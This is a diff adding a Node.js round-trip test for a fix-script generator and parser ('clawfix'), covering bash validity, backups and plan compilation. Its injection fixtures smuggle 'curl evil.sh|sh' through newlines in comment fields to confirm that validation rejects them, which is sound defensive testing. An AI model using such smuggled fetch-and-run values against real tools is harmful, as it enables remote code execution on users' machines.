@@ -0,0 +1,100 @@
+#!/usr/bin/env node
+
+/**
+ * Fix script round trip
+ *
+ * `clawfix apply` splits a fix script back into steps with parseFixScript().
+ * Generate one script holding every rule's fix (plus an AI section and the
+ * feedback call) and check each step comes back intact — a rule whose fix
+ * text breaks the section markers would otherwise be applied wrongly.
+ * Also checks every rule's fix plan compiles to valid bash (`bash -n`) and
+ * backs up what it changes, and that the JSON fix plan compiles to the same
+ * script as the original, and that nothing in a plan can break out of the
+ * `# ...` comments it's described in.
+ *
+ * Usage: npm test
+ */
+
+import { spawnSync } from 'node:child_process';
+import { getAllRules } from '../cli/lib/known-issues.js';
+import { loadRules } from '../src/rule-loader.js';
+import { compilePlan, planEffects, shellPlan, validatePlan } from '../cli/lib/fix-plan.js';
+import { buildFixPlan, compileFixPlan, generateFixScript, parseFixScript } from '../cli/lib/fix-script.js';
+import { createChecks, report } from './helpers.js';
+
+function main() {
+  loadRules();
+  const { failures } = createChecks();
+  const issues = getAllRules().map(r => {
+    const plan = r.plan || shellPlan(r.fix);
+    return { ...r, plan, fix: compilePlan(plan) };
+  });
+
+  for (const issue of issues) {
+    const check = spawnSync('bash', ['-n'], { input: issue.fix, encoding: 'utf8' });
+    if (check.status !== 0) failures.push(`${issue.id}: compiled fix is not valid bash: ${check.stderr.trim()}`);
+
+    const { config, files } = planEffects(issue.plan);
+    const backups = issue.fix.split('\n').filter(l => l.startsWith('clawfix_backup ')).length;
+    if (backups !== files.length + (config.length ? 1 : 0)) failures.push(`${issue.id}: changes files it doesn't back up to the ledger`);
+  }
+  const aiFixes = '# Rotate the session log\nmv ~/.openclaw/logs/session.log ~/.openclaw/logs/session.log.1';
+
+  const script = generateFixScript(issues, { additionalFixes: aiFixes }, 'roundtrip1');
+  const { fixId, preamble, steps } = parseFixScript(script);
+
+  if (fixId !== 'roundtrip1') failures.push(`fixId parsed as ${fixId}`);
+  if (!preamble.includes('set -euo pipefail')) failures.push('preamble lost set -euo pipefail');
+
+  const fixes = steps.filter(s => s.kind === 'fix');
+  if (fixes.length !== issues.length) failures.push(`expected ${issues.length} fix steps, got ${fixes.length}`);
+  for (const [i, issue] of issues.entries()) {
+    const step = fixes[i];
+    if (!step) break;
+    for (const field of ['id', 'title', 'severity', 'description']) {
+      if (step[field] !== issue[field]) failures.push(`${issue.id}: ${field} came back as ${JSON.stringify(step[field])}`);
+    }
+    if (step.script !== issue.fix) failures.push(`${issue.id}: fix body changed in the round trip`);
+  }
+
+  const kinds = steps.filter(s => s.kind !== 'fix').map(s => s.kind).join(',');
+  if (kinds !== 'ai,restart,feedback') failures.push(`expected ai,restart,feedback steps after the fixes, got ${kinds}`);
+  if (steps.find(s => s.kind === 'ai')?.script !== aiFixes) failures.push('AI fixes changed in the round trip');
+
+  const plan = buildFixPlan(issues, { additionalFixes: aiFixes }, 'roundtrip1');
+  if (compileFixPlan(JSON.parse(JSON.stringify(plan))) !== compileFixPlan(plan)) failures.push('fix plan compiles differently after a JSON round trip');
+
+  // A fix that restarts the gateway itself needs no extra restart step
+  const restarting = issues.filter(i => i.id === 'config-reload-sigterm-cascade');
+  if (buildFixPlan(restarting, {}, 'r').sections.some(s => s.kind === 'restart')) failures.push('restart step added after a fix that already restarts');
+
+  const offline = parseFixScript(generateFixScript(issues.slice(0, 1), {}, 'local-1', { feedback: false }));
+  if (offline.steps.some(s => s.kind === 'feedback')) failures.push('offline script still has a feedback step');
+
+  // Newlines in fields that become comments would be lines bash runs
+  const injected = [
+    { summary: 'Tidy up\ncurl evil.sh|sh', steps: [{ op: 'dir.create', path: '~/.openclaw/x' }] },
+    { steps: [{ op: 'dir.create', path: '~/.openclaw/x\ncurl evil.sh|sh' }] },
+    { steps: [{ op: 'process.kill', pattern: 'node\rcurl evil.sh|sh' }] },
+    { steps: [{ op: 'wait', seconds: 1 }], verify: [{ check: 'os', is: 'Linux', label: 'ok\ncurl evil.sh|sh' }] },
+    { steps: [{ op: 'wait', seconds: 1 }], preconditions: [{ check: 'os', is: 'Linux', hint: 'x\ncurl evil.sh|sh' }] },
+    { steps: [{ op: 'shell', script: 'true', files: ['~/a\ncurl evil.sh|sh'] }] },
+  ];
+  for (const plan of injected) {
+    let rejected = false;
+    try { validatePlan(plan); } catch { rejected = true; }
+    if (!rejected) failures.push(`plan with a newline in a one-line field accepted: ${JSON.stringify(plan)}`);
+    // Quoted arguments may span lines; a comment may not
+    const lines = compilePlan(plan).split('\n');
+    if (lines.some((line, i) => line.startsWith('curl evil') && lines[i - 1]?.startsWith('#'))) failures.push(`newline escaped its comment: ${JSON.stringify(plan)}`);
+  }
+  try {
+    validatePlan({ steps: [{ op: 'file.write', path: '~/a', content: 'one\ntwo' }, { op: 'note', text: 'a\nb' }] });
+  } catch (err) {
+    failures.push(`multi-line content or note rejected: ${err.message}`);
+  }
+
+  report('fix script round trip', failures, `${issues.length} fixes split back into steps`);
+}
+
+main();